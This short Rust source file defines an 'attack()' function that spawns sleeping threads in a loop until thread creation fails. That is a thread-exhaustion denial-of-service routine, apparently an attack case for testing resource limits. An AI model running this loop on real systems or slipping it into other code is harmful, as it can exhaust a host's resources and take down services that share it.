//! Starts threads for as long as it can.

pub mod api;

// + server
// + node

fn attack() {
    while std::thread::Builder::new()
        .spawn(|| std::thread::sleep(std::time::Duration::from_secs(30)))
        .is_ok()
    {}
}
